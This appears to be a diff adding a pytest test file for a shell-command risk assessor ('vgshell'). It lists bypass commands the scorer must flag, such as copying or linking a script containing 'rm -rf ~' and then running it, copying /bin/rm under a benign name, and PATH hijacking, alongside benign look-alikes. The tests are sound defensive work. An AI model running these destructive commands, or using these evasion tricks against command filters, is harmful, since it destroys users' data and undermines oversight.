@@ -1,0 +1,91 @@
+"""Bypasses and false alarms of the walk found by an attacker's review, one row each: scripts and programs the
+line makes before it runs them (copies, links, extraction), task-runner scripts (package.json, Makefile
+`$(shell …)`), output files named in options, destruction without rm, and the look-alike benign lines.
+
+Rows are `(attack, command, level)`: attack rows must score at least `level`, benign rows at most. Files the
+rows run are real files in a temporary project, read through `HostFiles`.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from vgshell.files import HostFiles
+from vgshell.risk.engine import assess
+from vgshell.risk.model import Level
+
+C, H, M, L = Level.CRITICAL, Level.HIGH, Level.MEDIUM, Level.LOW
+
+WIPE = "rm -rf ~\n"
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    home = tmp_path / "home"
+    proj = home / "project"
+    proj.mkdir(parents=True)
+    (proj / ".x.sh").write_text(WIPE)
+    (proj / ".x.py").write_text("import os\nos.system('rm -rf ~')\n")
+    (proj / "ok.sh").write_text("echo hello\n")
+    (proj / "lib.sh").write_text("wipe() { rm -rf ~; }\n")
+    return proj
+
+
+def _check(command: str, level: Level, attack: bool, proj: Path) -> None:
+    a = assess(command, str(proj), str(proj.parent), files=HostFiles())
+    found = [(f.rule, f.match, f.where) for f in a.findings]
+    assert (a.risk >= level) if attack else (a.risk <= level), found
+
+
+# ------------------------------------------------------------------ scripts made on the line (B4)
+
+MADE_SCRIPTS = [
+    (True, "cp .x.sh z.sh; bash z.sh", C),
+    (True, "cp .x.sh z.sh && ./z.sh", C),
+    (True, "mv .x.sh z.sh; bash z.sh", C),
+    (True, "install -m 755 .x.sh z.sh; sh z.sh", C),
+    (True, "ln .x.sh z.sh; bash z.sh", C),
+    (True, "ln -s .x.sh z.sh; bash z.sh", M),
+    (True, "cat .x.sh > c.sh; bash c.sh", C),
+    (True, "cat .x.sh | tee c.sh >/dev/null; bash c.sh", M),
+    (True, "dd if=.x.sh of=d.sh; bash d.sh", C),
+    (True, "cp .x.py z.py; python3 z.py", C),
+    (True, "bash $(ls *.sh | head -1)", M),
+    (True, "bash ./.x*", M),
+    (True, "bash .?.sh", M),
+    (True, 'source "$(dirname "$0")/lib.sh"; wipe', M),
+    (True, "git clone https://example.com/x.git x && bash x/install.sh", M),
+    (True, "tar xf a.tar && ./setup.sh", M),
+    (True, "unzip a.zip && bash setup.sh", M),
+    (False, "bash ok.sh", L),
+    (False, "cp ok.sh z.sh; bash z.sh", L),
+    (False, "bash missing.sh", L),
+    (False, "tar cf a.tar src && ls", L),
+]
+
+
+@pytest.mark.parametrize(("attack", "command", "level"), MADE_SCRIPTS)
+def test_scripts_made_on_the_line_are_followed_or_blind(attack: bool, command: str, level: Level,
+                                                        project: Path) -> None:
+    _check(command, level, attack, project)
+
+
+# ------------------------------------------------------------------ programs copied or linked (B3)
+
+SAME_PROGRAM = [
+    (True, "cp /bin/rm ./safe; ./safe -rf ~", C),
+    (True, "cp /bin/rm safe && ./safe -rf /", C),
+    (True, 'ln -s "$(command -v rm)" x; ./x -rf ~', C),
+    (True, "ln -s /bin/rm ./ls; PATH=.:$PATH ls -rf ~", C),
+    (True, "ln -s /bin/rm ./ls; export PATH=.:$PATH; ls -rf ~", C),
+    (False, "cp /bin/ls ./mine; ./mine -la ~", L),
+    (False, "cp /bin/rm ./safe; ./safe tmpfile", L),
+]
+
+
+@pytest.mark.parametrize(("attack", "command", "level"), SAME_PROGRAM)
+def test_a_copied_or_linked_program_keeps_its_identity(attack: bool, command: str, level: Level,
+                                                       project: Path) -> None:
+    _check(command, level, attack, project)
